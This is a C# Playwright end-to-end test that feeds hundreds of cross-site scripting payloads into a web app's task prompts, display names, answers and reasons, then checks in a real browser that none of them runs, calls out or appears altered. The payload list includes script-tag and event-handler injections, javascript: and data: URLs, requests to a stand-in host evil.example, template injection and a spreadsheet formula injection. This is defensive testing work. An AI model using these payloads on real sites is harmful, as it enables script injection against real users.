using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using Distribution.Tests.EndToEnd.Pages;
using Distribution.Tests.EndToEnd.Support;
using Microsoft.Playwright;

namespace Distribution.Tests.EndToEnd.Scripts;

/// <summary>
/// What strangers write is shown to people: script in every field that the pages show, in a real browser. Nothing of it may run, ask for
/// anything, or be stopped by the browser's policy only; and what is shown is what was written.
/// </summary>
public sealed partial class ScriptTests(ITestOutputHelper output)
{
    private const string Password = "correct horse battery";
    private const int PayloadsPerTask = 45;
    private readonly List<string> _wrong = [];

    [Fact(Timeout = 240_000), Trait("Promise", "S10")]
    public async Task NothingThatAnybodyWrites_RunsInAnyView()
    {
        Assert.SkipUnless(Browser.Missing is null, Browser.Missing ?? "");
        var ct = TestContext.Current.CancellationToken;
        await using var world = await World.StartAsync(1);
        var payloads = Payloads().ToList();
        payloads.Count.ShouldBeGreaterThan(500);
        var rows = payloads.Chunk(PayloadsPerTask)
            .Select(static chunk => JsonSerializer.Serialize(new { p = string.Join("\n\n", chunk), a = string.Join('\n', chunk.Reverse()), b = string.Join(' ', chunk) })).ToList();
        await using var stream = new MemoryStream(Encoding.UTF8.GetBytes(string.Join('\n', rows)));
        await world.CreateAsync("script", World.Settings(payloads[0]), stream, World.Mapping("p", "a", "b"), ct);

        var browser = await Browser.Chromium.Started.Value;
        await LookAsTrainerAsync(world, browser, rows.Count);
        await LookAsAdministratorAsync(world, browser);
        output.WriteLine($"{payloads.Count} payloads in {rows.Count} tasks, a title, names, answers and reasons.");
        _wrong.ShouldBeEmpty();
    }

    private async Task LookAsTrainerAsync(World world, IBrowser browser, int tasks)
    {
        await using var person = await PersonAsync(world, browser);
        var api = person.APIRequest;
        await PostAsync(api, "accounts/sign-up", new { email = "kim@trainers.example", password = Password, displayName = "<img src=x onerror=alert(1)>" });
        await PostAsync(api, "accounts/sign-in", new { email = "kim@trainers.example", password = Password, mode = "cookie" });
        var page = await WatchAsync(person, world);
        await page.GotoAsync("/");
        await page.Locator("main").GetByText("<script>").First.WaitForAsync();
        for (var i = 0; i < tasks; i++)
        {
            var lease = (await PostAsync(api, "work/lease", new { project = "script" })).GetProperty("assignment");
            var id = lease.GetProperty("id").GetString();
            var content = await (await api.GetAsync($"/api/v1/assignments/{id}/content")).JsonAsync();
            await page.GotoAsync("/");
            await page.Locator("main textarea, main input[type=radio]").First.WaitForAsync();
            var shown = WithoutSpace(await page.Locator("main").InnerTextAsync());
            var prompt = WithoutSpace(content!.Value.GetProperty("payload").GetProperty("prompt").GetString()!);
            _wrong.AddRange(Tags().Where(tag => prompt.Contains(tag, StringComparison.Ordinal) && !shown.Contains(tag, StringComparison.Ordinal)).Select(static tag => $"not shown as written: {tag}"));
            var fence = lease.GetProperty("fence").GetInt64();
            var task = lease.GetProperty("task").GetString();
            if (i % 4 == 3) await PostAsync(api, $"assignments/{id}/report", new { fence, reason = "<script>alert('reason')</script>" });
            else await PostAsync(api, $"assignments/{id}/submit", new { submissionId = $"submission-{i}", task, fence, body = new { better = "a", reason = "<svg onload=alert(2)>" } });
        }
    }

    private async Task LookAsAdministratorAsync(World world, IBrowser browser)
    {
        await using var person = await PersonAsync(world, browser);
        var token = SetupToken().Match(world.Server.Said).Groups[1].Value;
        await PostAsync(person.APIRequest, "accounts/setup", new { token, email = "admin@trainers.example", password = Password });
        await PostAsync(person.APIRequest, "accounts/sign-in", new { email = "admin@trainers.example", password = Password, mode = "cookie" });
        var page = await WatchAsync(person, world);
        await page.GotoAsync("/manage/projects/script");
        await page.Locator("[data-figure=active]").WaitForAsync();
        await Task.Delay(1500);
        await page.GotoAsync("/manage/projects/script/tasks");
        await page.Locator("#log-title").WaitForAsync();
        await page.GotoAsync("/manage/projects/script/data");
        await page.Locator("pre.lines-preview").First.WaitForAsync();
        await Task.Delay(1500);
    }

    private static Task<IBrowserContext> PersonAsync(World world, IBrowser browser) =>
        browser.NewContextAsync(new BrowserNewContextOptions { BaseURL = world.Server.Address.ToString(), ExtraHTTPHeaders = new Dictionary<string, string> { ["X-Distribution"] = "1" } });

    /// <summary>Any dialog, any request to elsewhere, any word of the browser's policy.</summary>
    private async Task<IPage> WatchAsync(IBrowserContext person, World world)
    {
        var page = await person.NewPageAsync();
        page.Dialog += (_, dialog) =>
        {
            _wrong.Add($"a script ran: {dialog.Message}");
            _ = dialog.DismissAsync();
        };
        page.Request += (_, request) =>
        {
            if (!request.Url.StartsWith(world.Server.Address.ToString(), StringComparison.Ordinal) && !request.Url.StartsWith("data:", StringComparison.Ordinal)
                && !request.Url.StartsWith("ws:", StringComparison.Ordinal)) _wrong.Add($"asked for {request.Url}");
        };
        page.Console += (_, message) =>
        {
            if (message.Text.Contains("Content Security Policy", StringComparison.OrdinalIgnoreCase) || message.Text.Contains("Refused to", StringComparison.Ordinal))
                _wrong.Add($"stopped by the policy only: {message.Text}");
        };
        await page.AddInitScriptAsync("addEventListener('securitypolicyviolation', e => console.error('Content Security Policy: ' + e.blockedURI + ' ' + e.sourceFile));");
        return page;
    }

    private static async Task<JsonElement> PostAsync(IAPIRequestContext api, string path, object body)
    {
        var answer = await api.PostAsync($"/api/v1/{path}", new APIRequestContextOptions { DataObject = body });
        answer.Ok.ShouldBeTrue($"{path}: {answer.Status} {await answer.TextAsync()}");
        return (await answer.JsonAsync()) ?? default;
    }

    /// <summary>HTML, SVG, MathML, Markdown, URLs, mutations, entities, controls of direction: each in several dresses.</summary>
    private static IEnumerable<string> Payloads()
    {
        string[] scripts =
        [
            "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
            "<img src=\"//evil.example/pixel.png\">", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "[x](javascript:alert(1))", "![x](javascript:alert(1))", "![x](//evil.example/pixel.png)", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "<form action=//evil.example><button>x</button></form>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<object data=//evil.example></object>", "<embed src=//evil.example>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "\" onmouseover=alert(1) x=\"", "' autofocus onfocus=alert(1) x='", "`onmouseover=alert(1)`", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript\\u003ealert(1)",
            "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "=cmd|' /C calc'!A0", "\u202etxt.exe\u202c", "\u200b\u200d\ufeff", "javascript:alert(1)", "<x onclick=alert(1)>click",
        ];
        Func<string, string>[] dresses =
        [
            static s => s, static s => $"`{s}`", static s => $"```\n{s}\n```", static s => $"> {s}", static s => $"**{s}**", static s => $"# {s}", static s => $"- {s}",
            static s => $"|{s}|", static s => $"<b>{s}</b>", static s => $"한국어 {s} 문장", static s => s.Replace("alert", "al\\u0065rt", StringComparison.Ordinal), static s => s.Replace(">", " >", StringComparison.Ordinal),
        ];
        return dresses.SelectMany(dress => scripts.Select(dress));
    }

    /// <summary>What Markdown has no say in: each tag of the payloads.</summary>
    private static IEnumerable<string> Tags() => Payloads().SelectMany(static payload => Tag().Matches(payload)).Select(static tag => WithoutSpace(tag.Value)).Where(static tag => tag != "<b>" && tag != "</b>").Distinct();

    private static string WithoutSpace(string text) => Space().Replace(text, "");

    [GeneratedRegex("<[^<>`]+>")]
    private static partial Regex Tag();

    [GeneratedRegex(@"[\s\u200b\u200d\ufeff]+")]
    private static partial Regex Space();

    [GeneratedRegex(@"#setup=(\w+)")]
    private static partial Regex SetupToken();
}
